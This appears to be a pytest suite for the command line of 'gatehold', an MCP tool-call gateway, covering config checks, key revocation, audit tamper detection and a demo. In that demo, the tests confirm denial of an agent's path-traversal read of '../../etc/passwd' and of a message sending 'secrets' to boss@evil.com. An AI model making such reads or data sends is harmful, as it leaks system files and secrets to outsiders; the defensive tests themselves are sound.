"""The command-line contract: exit codes, output prefixes, and the demo as a user runs it."""

from __future__ import annotations

import asyncio
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import httpx2
import pytest
import yaml
from mcp import Client, StdioServerParameters
from mcp.client.streamable_http import streamable_http_client
from mcp.shared.exceptions import MCPError

from tests.e2e.harness import REPO, config_data, running_gateway, stdio_sdk_upstream

GATEHOLD = [sys.executable, "-m", "gatehold"]


def run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*GATEHOLD, *args], capture_output=True, text=True, timeout=60, cwd=cwd, check=False)


@pytest.mark.parametrize("example", ["gatehold.yaml", "gatehold-oauth.yaml"])
def test_check_accepts_the_examples(example: str) -> None:
    done = run("check", str(REPO / "examples" / example))
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("ok:")


def test_check_refuses_oauth_without_a_resource_or_scope_map(tmp_path: Path) -> None:
    config = tmp_path / "g.yaml"
    config.write_text("auth: {oauth: {issuer: https://idp.example.com}}\n")
    done = run("check", str(config))
    assert done.returncode == 2
    assert "gateway.resource: required with auth.oauth" in done.stderr
    assert "scopes: required when auth.oauth.scope_mode is 'both'" in done.stderr


def test_revoke_lists_and_undoes(tmp_path: Path) -> None:
    config = tmp_path / "g.yaml"
    config.write_text("auth: {revocations: revoked.db}\n")
    assert run("revoke", "--config", str(config), "apikey", "ci-bot", "--reason", "rotated").returncode == 0
    listed = run("revoke", "--config", str(config), "--list")
    assert listed.returncode == 0
    assert listed.stdout.startswith("apikey ci-bot since ")
    assert listed.stdout.rstrip().endswith("rotated")
    undone = run("revoke", "--config", str(config), "--undo", "apikey", "ci-bot")
    assert undone.stdout.strip() == "restored: apikey ci-bot"
    assert run("revoke", "--config", str(config), "--list").stdout == ""
    assert run("revoke", "--config", str(config), "password", "x").returncode == 2  # unknown kind: usage error
    assert (tmp_path / "revoked.db").exists()  # relative to the config file, like the audit store


def test_check_names_field_value_and_expectation(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("gateway: {listen: nowhere, max_body_bytes: -1}\nupstreams: {x: {comand: [a]}}\n")
    done = run("check", str(bad))
    assert done.returncode == 2
    assert "gateway.listen: expected host:port" in done.stderr
    assert "(given: 'nowhere')" in done.stderr
    assert "gateway.max_body_bytes" in done.stderr
    assert "upstreams.x" in done.stderr
    missing = run("check", str(tmp_path / "absent.yaml"))
    assert missing.returncode == 2


def test_committed_schema_matches_the_models() -> None:
    done = run("schema")
    assert done.returncode == 0
    committed = json.loads((REPO / "examples" / "gatehold.schema.json").read_text())
    assert json.loads(done.stdout) == committed, "regenerate with: gatehold schema > examples/gatehold.schema.json"


@pytest.mark.anyio
async def test_audit_verify_detects_tampering(tmp_path: Path) -> None:
    roles = {"reader": {"tools": {"up.echo": {}}}}
    async with running_gateway(tmp_path, {"up": stdio_sdk_upstream()}, roles) as gw, gw.client("2026-07-28") as c:
        for i in range(5):
            await c.call_tool("up.echo", {"text": f"m{i}"})
    db, jsonl = tmp_path / "audit.db", tmp_path / "audit.jsonl"
    ok = run("audit", "verify", "--db", str(db), "--jsonl", str(jsonl))
    assert ok.returncode == 0, ok.stdout
    assert "intact" in ok.stdout
    tail = run("audit", "tail", "--db", str(db), "-n", "3", "--json")
    assert len(tail.stdout.splitlines()) == 3

    with sqlite3.connect(db) as conn:
        seq, record = conn.execute("SELECT seq, record FROM audit WHERE record LIKE '%m2%'").fetchone()
        conn.execute("UPDATE audit SET record = ? WHERE seq = ?", (record.replace("m2", "m9"), seq))
    edited = run("audit", "verify", "--db", str(db))
    assert edited.returncode == 1
    assert f"record {seq}" in edited.stdout

    lines = jsonl.read_text().splitlines(keepends=True)
    jsonl.write_text("".join(lines[:3] + lines[4:]))  # delete one record
    deleted = run("audit", "verify", "--jsonl", str(jsonl))
    assert deleted.returncode == 1
    assert "4" in deleted.stdout


def read_line(proc: subprocess.Popen[str], prefix: str, seen: list[str]) -> str:
    assert proc.stdout is not None
    while True:
        line = proc.stdout.readline()
        if not line:
            raise AssertionError(f"demo exited before printing {prefix!r}: {seen}")
        seen.append(line)
        if line.startswith(prefix):
            return line[len(prefix):].strip()


@pytest.mark.anyio
async def test_demo_runs_and_enforces(tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    proc = subprocess.Popen([*GATEHOLD, "demo", "--port", "0"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, env=env, cwd=tmp_path)
    seen: list[str] = []
    try:
        url = await asyncio.to_thread(read_line, proc, "URL: ", seen)
        key = await asyncio.to_thread(read_line, proc, "API key: ", seen)
        assert url.startswith("http://127.0.0.1:")
        assert url.endswith("/mcp")
        http = httpx2.AsyncClient(headers={"Authorization": f"Bearer {key}"})
        async with Client(streamable_http_client(url, http_client=http), mode="2026-07-28") as client:
            names = sorted(t.name for t in (await client.list_tools()).tools)
            assert names == ["demo.read_file", "demo.send_message", "demo.write_file"]
            readme = await client.call_tool("demo.read_file", {"path": "README.txt"})
            assert "Welcome" in readme.content[0].text
            with pytest.raises(MCPError):
                await client.call_tool("demo.read_file", {"path": "../../etc/passwd"})
            with pytest.raises(MCPError):
                await client.call_tool("demo.send_message", {"to": "boss@evil.com", "body": "secrets"})
        # Decisions are printed as they happen: wait for the last one (the denied send).
        async with asyncio.timeout(30):
            while not any("demo.send_message" in line for line in seen):
                await asyncio.to_thread(read_line, proc, "", seen)
    finally:
        proc.terminate()
        proc.wait(timeout=20)
    printed = "".join(seen)
    assert "ALLOW tools/call demo.read_file principal=demo-agent" in printed
    assert "DENY  tools/call demo.read_file principal=demo-agent args.constraint" in printed
    assert "DENY  tools/call demo.send_message principal=demo-agent args.constraint" in printed


@pytest.mark.anyio
@pytest.mark.parametrize("mode", ["legacy", "2026-07-28"])
async def test_stdio_front_with_the_sdk_stdio_client(tmp_path: Path, mode: str) -> None:
    data = config_data(tmp_path, {"up": stdio_sdk_upstream()}, {"reader": {"tools": {"up.add": {}}}},
                       auth={"stdio": {"principal": "desktop", "roles": ["reader"]}})
    data["gateway"]["listen"] = "127.0.0.1:8765"
    config = tmp_path / "gatehold.yaml"
    config.write_text(yaml.safe_dump(data))
    params = StdioServerParameters(command=sys.executable, args=["-m", "gatehold", "stdio", "--config", str(config)],
                                   cwd=str(REPO))
    async with Client(params, mode=mode) as client:
        assert [t.name for t in (await client.list_tools()).tools] == ["up.add"]
        assert (await client.call_tool("up.add", {"a": 1, "b": 2})).content[0].text == "3"
        with pytest.raises(MCPError) as denied:
            await client.call_tool("up.echo", {"text": "x"})
        assert denied.value.error.code == -32010
    records = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert {r["principal"] for r in records if r["kind"] == "decision"} == {"desktop"}


def test_stdio_without_a_configured_principal_refuses(tmp_path: Path) -> None:
    config = tmp_path / "gatehold.yaml"
    config.write_text(yaml.safe_dump(config_data(tmp_path, {}, {})))
    done = subprocess.run([*GATEHOLD, "stdio", "--config", str(config)], input="", capture_output=True,
                          text=True, timeout=60, check=False)
    assert done.returncode == 2
    assert "auth.stdio" in done.stderr
